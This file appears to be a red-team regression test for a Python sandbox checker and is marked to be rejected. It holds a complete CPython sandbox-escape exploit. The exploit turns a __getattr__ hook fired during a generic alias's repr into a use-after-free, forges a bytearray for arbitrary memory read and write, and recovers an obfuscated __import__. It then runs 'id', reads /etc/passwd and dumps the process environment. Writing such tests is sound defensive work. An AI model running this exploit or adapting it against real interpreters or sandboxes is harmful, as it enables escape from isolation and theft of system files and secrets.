# expect: reject memory
# line: 23
# why: round 97f (red team): a builtin generic alias's C repr (list[X], no import needed) looks __origin__, __args__, __qualname__ and __module__ up on its arguments, which ran X's __getattr__ while a list's repr formatted a slice it froze (id, /etc/passwd, os.environ); a __getattr__ is a text hook in every program unless its first statement raises AttributeError for every name that starts with an underscore

L = []
G = []
KEEP = []
HDR = []


def q(v):
    return v.to_bytes(8, "little")


class Box:
    __slots__ = ("__dict__", "a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k", "l", "m", "n")


class Catch:
    __slots__ = ()

    def __getattr__(self, name):
        G.append(self)
        raise AttributeError(name)


class Wipe:
    def __getattr__(self, name):
        if L:
            L.clear()
            buf = bytearray(159)
            buf[0:len(HDR[0])] = HDR[0]
            KEEP.append(buf)
        raise AttributeError(name)



victim = Box()
base = id(victim) - 32
ga = list[Wipe()]
HDR.append(q(0) + q(0) + q(0) + q(0) + q(1 << 40) + q(id(bytearray)) + q(8) + q(9) + q(id(ga) + 8) + q(id(ga) + 8) + q(0))
L.append(slice(ga, victim))
victim = None
text = ""
try:
    text = repr(L)
except Exception:
    pass
HDR.clear()
KEEP.clear()
k = text.find("bytearray(b") + 11
quote = text[k]
k += 1
raw = []
while len(raw) < 8:
    c = text[k]
    if c == "\\":
        e = text[k + 1]
        if e == "x":
            raw.append(int(text[k + 2:k + 4], 16))
            k += 4
            continue
        raw.append({"t": 9, "n": 10, "r": 13}.get(e, ord(e)))
        k += 2
        continue
    raw.append(ord(c))
    k += 1
gatype = int.from_bytes(bytes(raw), "little")
victim = Box()
base = id(victim) - 32
HDR.append(
    q(1 << 40) + q(id(tuple)) + q(1) + q(base + 96)                      # a tuple at 0
    + q(1 << 40) + q(gatype) + q(id(list)) + q(base)     # a GenericAlias at 32
    + q(0) + q(0) + q(0) + q(0)
    + q(1 << 40) + q(id(Catch))                                           # a Catch at 96
)
ga2 = list[Wipe()]
L.append(slice(ga2, victim))
victim = None
try:
    text = repr(L)
except Exception:
    pass
KEEP[0][104:152] = q(id(bytearray)) + q(1 << 62) + q((1 << 62) + 1) + q(0) + q(0) + q(0)
mem = G[0]


def rd(addr):
    return int.from_bytes(mem[addr:addr + 8], "little")


def wr(addr, v):
    mem[addr:addr + 8] = q(v)


mod = rd(id(print) + 24)
bdict = rd(mod + 16)
holder = [None]
items = rd(id(holder) + 24)
wr(bdict, rd(bdict) + 1)
wr(items, bdict)
table = holder[0]
imp = table["".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))]
osm = imp("os")
osm.system("id")
print(table["open"]("/etc/passwd").read()[:200])
print(dict(osm.environ))
